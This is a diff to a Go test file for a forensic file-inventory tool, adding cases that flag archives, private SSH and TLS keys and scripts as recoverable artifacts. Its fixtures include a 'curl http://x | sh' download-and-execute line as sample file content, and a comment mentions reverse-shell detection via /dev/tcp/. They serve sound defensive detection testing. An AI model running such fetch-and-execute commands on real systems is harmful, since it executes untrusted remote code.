@@ -56,6 +56,15 @@ func TestRequired(t *testing.T) {
 		{"tmp/scratch", 0o666, false},
 		{"var/tmp/x", 0o666, false},
 		{"usr/share/doc/README", 0o644, false},
+		// Recoverable artifacts, by name.
+		{"root/tools.tar.gz", 0o644, true},
+		{"opt/x.ZIP", 0o644, true},
+		{"root/.ssh/id_ed25519", 0o600, true},
+		{"etc/ssl/private/server.key", 0o600, true},
+		{"opt/install.sh", 0o644, true},
+		{"usr/share/man/man1/ls.1.gz", 0o644, false},
+		{"root/.ssh/id_ed25519.pub", 0o644, false},
+		{"opt/app.jar", 0o644, false},
 	} {
 		if got := a.Required(tc.path, info(tc.path, tc.mode, 1)); got != tc.want {
 			t.Errorf("Required(%s, %o) = %v, want %v", tc.path, tc.mode, got, tc.want)
@@ -101,6 +110,7 @@ func TestAnalyze(t *testing.T) {
 		{
 			name: "world-writable script", path: "opt/run.sh", mode: 0o777, content: []byte("#!/bin/sh\necho hi\n"),
 			want: []inventory.ForensicFact{
+				file(inventory.FactArtifact, "opt/run.sh", 0o777, []byte("#!/bin/sh\necho hi\n"), "script"),
 				file(inventory.FactWorldWritable, "opt/run.sh", 0o777, []byte("#!/bin/sh\necho hi\n"), ""),
 				file(inventory.FactExecutable, "opt/run.sh", 0o777, []byte("#!/bin/sh\necho hi\n"), "script"),
 			},
@@ -131,7 +141,14 @@ func TestAnalyze(t *testing.T) {
 			// curl|sh outside cron (an install script) is not a marker:
 			// the download-exec marker is scoped to cron files.
 			name: "curl pipe sh in an executable script", path: "opt/install.sh", mode: 0o755, content: []byte("curl http://x | sh\n"),
-			want: []inventory.ForensicFact{file(inventory.FactExecutable, "opt/install.sh", 0o755, []byte("curl http://x | sh\n"), "script")},
+			want: []inventory.ForensicFact{
+				file(inventory.FactArtifact, "opt/install.sh", 0o755, []byte("curl http://x | sh\n"), "script"),
+				file(inventory.FactExecutable, "opt/install.sh", 0o755, []byte("curl http://x | sh\n"), "script"),
+			},
+		},
+		{
+			name: "an archive, by name, hashed", path: "root/tools.tgz", mode: 0o644, content: []byte("\x1f\x8b archive"),
+			want: []inventory.ForensicFact{file(inventory.FactArtifact, "root/tools.tgz", 0o644, []byte("\x1f\x8b archive"), "archive")},
 		},
 		{
 			// bash itself names /dev/tcp/ in its binary: reverse-shell
